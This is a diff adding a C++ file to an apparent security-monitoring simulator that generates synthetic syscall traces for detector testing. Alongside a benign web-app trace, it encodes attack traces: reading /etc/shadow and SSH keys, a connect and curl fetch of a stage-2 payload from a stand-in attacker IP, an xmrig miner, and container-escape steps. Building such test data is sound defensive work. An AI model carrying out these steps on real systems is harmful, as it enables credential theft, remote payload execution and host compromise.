@@ -1,0 +1,77 @@
+#include "genio/appsec/events.hpp"
+
+namespace genio::appsec {
+
+std::string to_string(SyscallKind kind) {
+  switch (kind) {
+    case SyscallKind::kExec: return "exec";
+    case SyscallKind::kOpen: return "open";
+    case SyscallKind::kConnect: return "connect";
+    case SyscallKind::kListen: return "listen";
+    case SyscallKind::kSetuid: return "setuid";
+    case SyscallKind::kMount: return "mount";
+    case SyscallKind::kPtrace: return "ptrace";
+    case SyscallKind::kModuleLoad: return "module_load";
+  }
+  return "unknown";
+}
+
+namespace traces {
+
+namespace {
+
+SyscallEvent make(const std::string& workload, SyscallKind kind, const std::string& arg,
+                  std::map<std::string, std::string> attrs = {}) {
+  return {common::SimTime{}, workload, kind, arg, std::move(attrs)};
+}
+
+}  // namespace
+
+std::vector<SyscallEvent> benign_web_app(const std::string& workload, int requests) {
+  std::vector<SyscallEvent> events;
+  events.push_back(make(workload, SyscallKind::kExec, "/usr/bin/python3"));
+  events.push_back(make(workload, SyscallKind::kListen, "8443"));
+  events.push_back(make(workload, SyscallKind::kOpen, "/app/config.yaml",
+                        {{"mode", "r"}}));
+  for (int i = 0; i < requests; ++i) {
+    events.push_back(make(workload, SyscallKind::kOpen, "/app/data/cache.db",
+                          {{"mode", "w"}}));
+    events.push_back(make(workload, SyscallKind::kConnect, "db.tenant.svc:5432"));
+  }
+  return events;
+}
+
+std::vector<SyscallEvent> post_exploitation(const std::string& workload) {
+  return {
+      make(workload, SyscallKind::kExec, "/bin/sh", {{"parent", "python3"}}),
+      make(workload, SyscallKind::kOpen, "/etc/shadow", {{"mode", "r"}}),
+      make(workload, SyscallKind::kOpen, "/root/.ssh/id_rsa", {{"mode", "r"}}),
+      make(workload, SyscallKind::kConnect, "198.51.100.66:4444"),
+      make(workload, SyscallKind::kExec, "/usr/bin/curl",
+           {{"args", "http://198.51.100.66/stage2"}}),
+  };
+}
+
+std::vector<SyscallEvent> cryptominer(const std::string& workload) {
+  std::vector<SyscallEvent> events;
+  events.push_back(make(workload, SyscallKind::kExec, "/tmp/xmrig"));
+  for (int i = 0; i < 5; ++i) {
+    events.push_back(make(workload, SyscallKind::kConnect, "pool.minexmr.to:4444"));
+  }
+  return events;
+}
+
+std::vector<SyscallEvent> escape_attempt(const std::string& workload) {
+  return {
+      make(workload, SyscallKind::kOpen, "/var/run/docker.sock", {{"mode", "w"}}),
+      make(workload, SyscallKind::kMount, "/host-proc"),
+      make(workload, SyscallKind::kSetuid, "0"),
+      make(workload, SyscallKind::kOpen, "/proc/sys/kernel/core_pattern",
+           {{"mode", "w"}}),
+      make(workload, SyscallKind::kModuleLoad, "evil_lkm"),
+  };
+}
+
+}  // namespace traces
+
+}  // namespace genio::appsec
